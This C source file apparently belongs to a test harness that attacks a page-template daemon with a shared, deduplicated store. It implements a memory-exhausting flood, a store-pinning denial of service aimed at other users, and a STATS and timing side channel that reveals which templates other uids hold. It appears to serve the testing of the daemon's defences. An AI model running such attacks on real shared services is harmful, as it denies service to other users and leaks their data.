/* Template attacks: the template store is shared by every uid and
 * deduplicated by content. Each distinct template costs the daemon a page,
 * and once a multi-page fill needs it a slab of 64 copies (256 KiB). A
 * template stays alive while a range uses it, after its handle is
 * released. */
#include "atk.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define P TN_PAGE
/* Pages per range: faults at 0 and 1 make a 2-page fill (the slab). */
#define FLOOD_RANGE_PAGES 4

/* template-flood: conns= connections, each making templates= distinct
 * templates, each mapped and faulted so that its slab is built (touch=0:
 * not faulted), its handle released (release=0: kept). Held until
 * duration=. */
int atk_template_flood(const char *sock)
{
	long conns = (long)tn_opt_ll("conns", 8), per = (long)tn_opt_ll("templates", 250);
	int touch = (int)tn_opt_ll("touch", 1), release = (int)tn_opt_ll("release", 1);
	double dur = tn_opt_double("duration", 4), deadline = tn_now() + dur;
	struct atk_conn *cs = calloc((size_t)conns, sizeof(*cs));
	unsigned long made = 0, refused = 0, failed = 0, conns_up = 0, conns_refused = 0;
	uint8_t page[P];
	int store_full = 0;
	double t0 = tn_now();

	if (!cs)
		return 1;
	for (long i = 0; i < conns && !store_full; i++) {
		int r = atk_hello(&cs[i], sock, 5, 0);
		if (r < 0) {
			conns_refused++;
			if (atk_refusal(r) || r == -ETIMEDOUT)
				continue;
			atk_out("hello_error=%s", strerror(-r));
			continue;
		}
		conns_up++;
		uint8_t *area = atk_anon((size_t)per * FLOOD_RANGE_PAGES * P);
		if (area == MAP_FAILED)
			return 1;
		int streak = 0;
		for (long k = 0; k < per; k++) {
			tn_fill_page(page, (uint32_t)(i * 1000003 + k + 17));
			long id = atk_template(&cs[i], page);
			if (id < 0) {
				if (atk_refusal((int)id)) {
					refused++;
					if (++streak >= 3) {
						/* The store (or our share of it) is full. */
						store_full = k == 0;
						break;
					}
				} else {
					failed++;
					break;
				}
				continue;
			}
			streak = 0;
			uint8_t *q = area + (size_t)k * FLOOD_RANGE_PAGES * P;
			int r2 = atk_map(&cs[i], (uintptr_t)q, FLOOD_RANGE_PAGES * P, (uint32_t)id);
			if (r2 < 0) {
				atk_refusal(r2) ? refused++ : failed++;
				atk_release(&cs[i], (uint32_t)id);
				continue;
			}
			if (touch) {
				(void)*(volatile uint8_t *)q;
				(void)*(volatile uint8_t *)(q + P);
			}
			if (release)
				atk_release(&cs[i], (uint32_t)id);
			made++;
		}
	}
	double setup = tn_now() - t0;
	atk_out("conns=%lu conns_refused=%lu templates=%lu refused=%lu failed=%lu setup_s=%.2f",
		conns_up, conns_refused, made, refused, failed, setup);
	/* Held at least a second once built, however long that took. */
	if (deadline < tn_now() + 1)
		deadline = tn_now() + 1;
	while (atk_until(deadline))
		tn_sleep(0.05);
	for (long i = 0; i < conns; i++)
		atk_close(&cs[i]);
	free(cs);
	return 0;
}

/* template-pin: fill the shared store with templates held by one-page
 * ranges only (each handle released at once, so the per-uid handle limit
 * never applies), until the daemon refuses (or templates= per connection,
 * conns= connections); held until duration=. Victims that make new
 * templates meanwhile find the store full. */
int atk_template_pin(const char *sock)
{
	long conns = (long)tn_opt_ll("conns", 1), per = (long)tn_opt_ll("templates", 60000);
	double dur = tn_opt_double("duration", 4), deadline;
	struct atk_conn *cs = calloc((size_t)conns, sizeof(*cs));
	unsigned long pinned = 0, refused = 0, failed = 0;
	uint8_t page[P];
	int full = 0;
	double t0 = tn_now();

	if (!cs)
		return 1;
	for (long i = 0; i < conns && !full; i++) {
		int r = atk_hello(&cs[i], sock, 5, 0);
		if (r < 0) {
			atk_out("hello_error=%s", strerror(-r));
			break;
		}
		uint8_t *area = atk_anon((size_t)per * P);
		if (area == MAP_FAILED)
			return 1;
		for (long k = 0; k < per; k++) {
			tn_fill_page(page, (uint32_t)(0x51A7 + i * 1000003 + k));
			long id = atk_template(&cs[i], page);
			if (id < 0) {
				atk_refusal((int)id) ? refused++ : failed++;
				full = 1;
				break;
			}
			r = atk_map(&cs[i], (uintptr_t)(area + (size_t)k * P), P, (uint32_t)id);
			atk_release(&cs[i], (uint32_t)id);
			if (r < 0) {
				atk_refusal(r) ? refused++ : failed++;
				break; /* this connection's table is full */
			}
			pinned++;
		}
	}
	atk_out("pinned=%lu refused=%lu failed=%lu store_full=%d setup_s=%.2f", pinned, refused,
		failed, full, tn_now() - t0);
	/* Held full for duration=, however long filling it took. */
	deadline = tn_now() + dur;
	while (atk_until(deadline))
		tn_sleep(0.05);
	for (long i = 0; i < conns; i++)
		atk_close(&cs[i]);
	free(cs);
	return 0;
}

static int cmp_dbl(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return x < y ? -1 : x > y;
}

/* oracle: does another uid hold a template of byte g? For each of the 256
 * fill bytes, trials= times: STATS' template count, TEMPLATE_FILL g, STATS
 * again; a count that did not grow means the store had it already:
 * someone holds it. Then map it and time a 2-page fill: fast when the
 * template's slab exists (someone's multi-page fills built it), slow when
 * this fill must build it: a timing oracle that needs no STATS. Reports
 * the bytes STATS gave away, and the eight fastest fills (the best of the
 * trials each: noise only ever adds). */
int atk_oracle(const char *sock)
{
	int trials = (int)tn_opt_ll("trials", 5);
	struct atk_conn c;
	uint64_t v0[PROTO_STATS_MAX], v1[PROTO_STATS_MAX];
	static double med[256];
	static int hits[256];
	double t[64];
	int r = atk_hello(&c, sock, 5, 0);

	if (r < 0) {
		atk_out("hello_error=%s", strerror(-r));
		return 1;
	}
	if (trials > 64)
		trials = 64;
	/* Warm up the daemon's path (and our own). */
	for (int w = 0; w < 32; w++) {
		long id = atk_fill(&c, (uint8_t)w);
		if (id > 0)
			atk_release(&c, (uint32_t)id);
	}
	for (int g = 0; g < 256; g++) {
		int h = 0;
		for (int k = 0; k < trials; k++) {
			if ((r = atk_stats(&c, v0)) < 0)
				break;
			long id = atk_fill(&c, (uint8_t)g);
			if ((r = atk_stats(&c, v1)) < 0)
				break;
			t[k] = 1e9;
			if (id > 0) {
				/* Fault page 0, then time page 1: a 2-page fill from the
				 * template's slab, built now (256 KiB) unless someone's
				 * fills built it already. */
				uint8_t *q = atk_anon(4 * P);
				if (q != MAP_FAILED &&
				    atk_map(&c, (uintptr_t)q, 4 * P, (uint32_t)id) == 0) {
					(void)*(volatile uint8_t *)q;
					uint64_t t0 = tn_now_ns();
					(void)*(volatile uint8_t *)(q + P);
					t[k] = (double)(tn_now_ns() - t0) / 1e3;
					atk_unmap(&c, (uintptr_t)q, 4 * P);
				}
				if (q != MAP_FAILED)
					munmap(q, 4 * P);
				atk_release(&c, (uint32_t)id);
			}
			h += v1[PROTO_STAT_TEMPLATES] == v0[PROTO_STAT_TEMPLATES];
		}
		if (r < 0) {
			atk_out("stats_error=%s", strerror(-r));
			return 1;
		}
		hits[g] = h * 2 > trials;
		qsort(t, (size_t)trials, sizeof(t[0]), cmp_dbl);
		med[g] = t[0];
	}
	char list[1200] = "";
	size_t n = 0;
	int nhits = 0;
	for (int g = 0; g < 256; g++)
		if (hits[g]) {
			n += (size_t)snprintf(list + n, sizeof(list) - n, "%s0x%02x",
					      nhits ? "," : "", g);
			nhits++;
		}
	atk_finding("oracle_stats_hits=%s", nhits ? list : "none");
	/* The eight fastest fills, fastest first. */
	int order[256];
	for (int g = 0; g < 256; g++)
		order[g] = g;
	for (int i = 0; i < 256; i++)
		for (int j = i + 1; j < 256; j++)
			if (med[order[j]] < med[order[i]]) {
				int x = order[i];
				order[i] = order[j];
				order[j] = x;
			}
	double all[256];
	for (int g = 0; g < 256; g++)
		all[g] = med[g];
	qsort(all, 256, sizeof(all[0]), cmp_dbl);
	n = 0;
	list[0] = '\0';
	for (int i = 0; i < 8; i++)
		n += (size_t)snprintf(list + n, sizeof(list) - n, "%s0x%02x:%.1f", i ? "," : "",
				      order[i], med[order[i]]);
	atk_finding("oracle_timing_fastest=%s median_of_fastest_us=%.1f", list, all[128]);
	atk_close(&c);
	return 0;
}
